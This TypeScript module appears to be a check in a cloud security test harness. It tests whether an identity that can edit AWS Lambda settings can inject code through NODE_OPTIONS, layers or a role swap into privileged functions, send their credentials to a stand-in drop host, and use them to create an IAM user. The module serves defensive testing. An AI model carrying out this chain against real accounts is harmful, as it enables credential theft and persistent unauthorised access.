import { CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
import {
  GetFunctionConfigurationCommand,
  InvokeCommand,
  LambdaClient,
  TagResourceCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import {
  type CheckContext,
  fail,
  functionNames,
  hex,
  type Outcome,
  pass,
  recall,
  rolesOfFunction,
} from '../../server/kit.ts';
import { dropName } from './drop.ts';
import { families, inline, type Settings } from './families.ts';
import { privileged, tuned } from './functions.ts';

/** Whoever has the tuner's keys sets what runs code before a privileged function's handler, and waits for its next run. */
export async function stealByConfiguration(ctx: CheckContext): Promise<Outcome> {
  const mark = hex(ctx.random, 8);
  const settings = await families(ctx, mark);
  const others = [...new Set([...privileged, ...functionNames(ctx)])].filter((name) => !tuned.includes(name));
  let tried = 0;
  for (const name of others)
    for (const each of settings) {
      tried++;
      if (!(await configure(ctx, name, each))) continue;
      await run(ctx, name);
      const stolen = await use(ctx, mark);
      if (stolen)
        return pass(`the keys of tuner set ${each.how} on ${name}, and its next run sent ${stolen} to ${dropName}`);
    }
  for (const Role of new Set(privileged.flatMap((name) => rolesOfFunction(ctx, name)))) {
    tried++;
    if (!(await configure(ctx, 'cart', { how: '', Variables: { NODE_OPTIONS: inline(mark) } }, Role))) continue;
    await run(ctx, 'cart');
    const stolen = await use(ctx, mark);
    if (stolen) return pass(`the keys of tuner gave cart another role, and its next run sent ${stolen} to ${dropName}`);
  }
  return fail(`none of ${tried} settings brought credentials of a privileged function to ${dropName}`);
}

async function configure(ctx: CheckContext, name: string, settings: Settings, Role?: string): Promise<boolean> {
  const tuner = ctx.user('tuner').client(LambdaClient);
  const Resource = `arn:aws:lambda:${ctx.region}:${ctx.account().id}:function:${name}`;
  await ctx.attempt(() => tuner.send(new TagResourceCommand({ Resource, Tags: { tuning: 'yes' } })));
  const read = await ctx.attempt(() => tuner.send(new GetFunctionConfigurationCommand({ FunctionName: name })));
  const set = await ctx.attempt(() =>
    tuner.send(
      new UpdateFunctionConfigurationCommand({
        FunctionName: name,
        Environment: {
          Variables: { ...(read.ok ? read.value.Environment?.Variables : {}), ...settings.Variables },
        },
        ...(settings.Layers ? { Layers: settings.Layers } : {}),
        ...(Role ? { Role } : {}),
      }),
    ),
  );
  return set.ok;
}

/** The function's next run, as its users start it. */
async function run(ctx: CheckContext, FunctionName: string): Promise<void> {
  const ops = await ctx.attempt(async () => ctx.user('ops').client(LambdaClient));
  if (ops.ok) await ctx.attempt(() => ops.value.send(new InvokeCommand({ FunctionName })));
  await ctx.settle();
}

/** Takes credentials from where they were sent and uses them; answers whose they are. */
async function use(ctx: CheckContext, mark: string): Promise<string | undefined> {
  const sent = recall(ctx, dropName).findLast((each) => each.mark === mark);
  if (!sent) return undefined;
  const thief = ctx.holder('whoever reads drop.example', {
    accessKeyId: String(sent.id),
    secretAccessKey: String(sent.secret),
    sessionToken: String(sent.token),
  });
  const who = await ctx.attempt(() => thief.client(STSClient).send(new GetCallerIdentityCommand({})));
  if (!who.ok) return undefined;
  await ctx.attempt(() => thief.client(IAMClient).send(new CreateUserCommand({ UserName: `u-${hex(ctx.random, 6)}` })));
  return `the credentials of ${who.value.Arn!.split('/')[1]}`;
}
